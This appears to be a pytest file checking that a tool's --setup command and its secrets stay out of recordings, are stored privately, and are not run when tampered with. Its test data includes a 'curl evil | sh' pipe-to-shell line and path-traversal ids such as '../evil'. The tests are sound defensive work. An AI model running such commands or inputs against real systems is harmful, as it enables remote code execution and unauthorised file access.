"""The text of --setup isn't stored in the recording; resuming reads it from the user's state folder."""

from __future__ import annotations

import asyncio
import os
import shutil
from dataclasses import replace
from io import StringIO
from pathlib import Path

import pytest

from gswarm_tui.common.errors import UserError
from gswarm_tui.options.arguments import Options, parse
from gswarm_tui.run import build, interrupted
from gswarm_tui.run.finish import finish
from gswarm_tui.run.plan import Plan
from gswarm_tui.run.saved_options import NOTES, read_note, remove_note, write_note
from gswarm_tui.store.recording.recorder import FileWriter

SETUP = "curl -u me:hunter2zq7 https://host/env; export DB_PASS=hunter2zq7; my_own_login hunter2zq7"
SETTINGS = parse([], {})


@pytest.fixture(autouse=True)
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return an empty state folder."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    return tmp_path / "state"


def started(path: Path, words: list[str], settings: Options | None = None) -> FileWriter:
    """Start a recording with this command line."""
    options = (settings or parse(words, {}))._replace(db=path)
    plan = Plan(("no/host",))
    hub = build.build_hub(options, plan)
    recorder = build.start_recording(hub, options, plan, words, "a1-0")
    assert [event.message for event in hub.fleet.event_log] == []
    return recorder


@pytest.mark.parametrize("words", [["--setup", SETUP], [f"--setup={SETUP}"]])
async def test_recording_holds_no_text_of_the_setup(tmp_path: Path, words: list[str]) -> None:
    path = tmp_path / "run.duckdb"
    sent = ["--on-finding", "curl hook_of_mine"]
    started(path, ["--nodes", "n1", *words, *sent]).close(None)
    for file in path.parent.glob("run.duckdb*"):
        for part in (b"hunter2", b"DB_PASS", b"my_own_login", b"hook_of_mine"):
            assert part not in file.read_bytes()
    ((one,), _) = interrupted.find(tmp_path, path)
    assert one.restore(SETTINGS)[0].setup == SETUP, "resuming knows it"


async def test_setup_is_private_until_the_recording_is_closed(tmp_path: Path) -> None:
    path = tmp_path / "run.duckdb"
    before = os.umask(0)
    try:
        started(path, ["--nodes", "n1", "--setup", SETUP]).close(None)
    finally:
        os.umask(before)
    (note,) = NOTES.path.glob("*.json")
    assert (note.stat().st_mode & 0o777, note.parent.stat().st_mode & 0o777) == (0o600, 0o700)
    ((one,), _) = interrupted.find(tmp_path, path)
    assert await finish(one, SETTINGS, StringIO()) == 0
    assert list(NOTES.path.glob("*.json")) == []


async def test_recover_without_the_saved_setup_asks_for_it(tmp_path: Path) -> None:
    path = tmp_path / "run.duckdb"
    started(path, ["--nodes", "n1", "--setup", SETUP]).close(None)
    shutil.rmtree(NOTES.path)
    ((one,), _) = interrupted.find(tmp_path, path)
    with pytest.raises(UserError, match="GSWARM_TUI_SETUP"):
        replace(one, trusted=True).restore(SETTINGS)
    assert replace(one, trusted=True).restore(SETTINGS._replace(setup="true"))[0].setup == "true"


@pytest.mark.parametrize("forgotten", [False, True])
async def test_neither_a_setup_in_the_file_nor_the_private_one_is_run_for_changed_options(
    tmp_path: Path, forgotten: bool
) -> None:
    path = tmp_path / "run.duckdb"
    started(path, ["--nodes", "n1", "--setup", SETUP]).close(None)
    ((one,), _) = interrupted.find(tmp_path, path)
    options = dict(one.interrupted.options) | {"setup": "curl evil | sh", "nodes": ["evil"]}
    if forgotten:
        shutil.rmtree(NOTES.path)
    evil = interrupted.InterruptedRun(path, replace(one.interrupted, options=options), trusted=True)
    with pytest.raises(UserError, match="GSWARM_TUI_SETUP"):
        evil.restore(SETTINGS)


@pytest.mark.parametrize("uid", ["../evil", "/evil", "", ".evil", "a" * 200, "a\0b"])
def test_recording_with_a_strange_id_reaches_no_other_file(state: Path, uid: str) -> None:
    write_note("a1", {}, "true")
    (state / "gswarm-tui/evil.json").write_text((NOTES.path / "a1.json").read_text())
    assert read_note(uid, {}) is None
    remove_note(uid)
    assert (state / "gswarm-tui/evil.json").exists()


def test_note_that_another_user_may_have_written_is_ignored() -> None:
    write_note("a1", {}, "true")
    assert read_note("a1", {}) == "true"
    NOTES.path.chmod(0o770)
    assert read_note("a1", {}) is None


async def test_full_or_closed_state_folder_is_reported(tmp_path: Path, state: Path) -> None:
    state.write_text("")
    options = parse(["--nodes", "n1", "--setup", SETUP], {})._replace(db=tmp_path / "run.duckdb")
    hub = build.build_hub(options, Plan(("n1",)))
    recorder = build.start_recording(hub, options, Plan(("n1",)), [], "a1")
    hub.flush()
    await asyncio.to_thread(recorder.close, hub.now())
    (event,) = hub.fleet.event_log
    what = "will need --trust and --setup again"
    assert event.message.startswith(f"gswarm-tui recover {what}: {NOTES.path}: ")
